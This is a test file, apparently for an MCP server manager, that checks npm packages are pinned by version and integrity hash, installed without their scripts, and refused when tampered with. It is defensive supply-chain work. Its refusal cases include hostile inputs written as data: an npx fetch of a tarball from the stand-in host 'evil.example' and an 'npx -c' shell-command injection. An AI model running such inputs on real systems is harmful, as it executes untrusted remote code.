import { existsSync, mkdtempSync, readdirSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect, onTestFinished, test } from "vitest";
import type { McpServer } from "../../../src/client/wire.ts";
import { startRegistry } from "./fake-registry.ts";
import { openMcpApi } from "./open-mcp-api.ts";

async function openWithPackages() {
  const registry = await startRegistry();
  const contentFolder = mkdtempSync(join(tmpdir(), "capstan-content-"));
  onTestFinished(() => rmSync(contentFolder, { recursive: true, force: true }));
  const api = await openMcpApi({ contentFolder });
  const add = (id: string, args: string[], command = "npx") =>
    api.post<McpServer & { code: string; detail: string }>(
      "/v1/mcp-servers",
      { id, command, args },
      { as: "admin" },
    );
  return { ...api, registry, contentFolder, add };
}

test("A69: npx is installed once, pinned, without its scripts, and stays what it was", async () => {
  const { registry, add, ...api } = await openWithPackages();
  registry.publish("1.0.0");
  const added = await add("floating", ["-y", registry.name, "", ""]);
  expect(added.body).toMatchObject({
    trust: "remote",
    package: {
      name: registry.name,
      version: "1.0.0",
      integrity: expect.stringMatching(/^sha512-/),
    },
  });
  expect(added.body.tools).toBeGreaterThan(5);
  expect(existsSync(registry.trace)).toBe(false);
  const first = api.gate.catalog.getTool("mcp:floating:plain")?.digest;
  expect((await api.invoke("mcp:floating:plain", {})).state).toBe("completed");

  registry.publish("1.1.0");
  const again = await api.post<McpServer>("/v1/mcp-servers/floating/refresh", {}, { as: "admin" });
  expect(again.body.package?.version).toBe("1.0.0");
  expect(api.gate.catalog.getTool("mcp:floating:plain")?.digest).toBe(first);

  // Another version is another program: what was answered about the first does not count for it.
  await api.request("DELETE", "/v1/mcp-servers/floating", { as: "admin" });
  const newer = await add("floating", ["-y", registry.name, "", ""]);
  expect(newer.body.package?.version).toBe("1.1.0");
  expect(api.gate.catalog.getTool("mcp:floating:plain")?.digest).not.toBe(first);
  expect(readdirSync(join(api.contentFolder, "packages", "npm"))).toHaveLength(2);
}, 60_000);

test("A69: an archive that is not what the registry promised is not installed", async () => {
  const { registry, add } = await openWithPackages();
  registry.publish("1.0.0");
  registry.tamper("1.0.0");
  const refused = await add("other", ["-y", `${registry.name}@1.0.0`]);
  expect(refused).toMatchObject({ status: 422, body: { code: "MCP_SERVER_INVALID" } });
}, 60_000);

test.each([
  ["npx", ["-y", "https://evil.example/x.tgz"], "not a package of the registry"],
  ["npx", ["-c", "touch /tmp/x"], "is not known"],
  ["npx", [], "name of a package"],
  ["uvx", ["some-server"], "nothing here can pin that yet"],
])("A69: %s %j is refused with the reason", async (command, args, reason) => {
  const { add } = await openWithPackages();
  const { status, body } = await add("x", args, command);
  expect(status).toBe(422);
  expect(body.detail).toContain(reason);
});
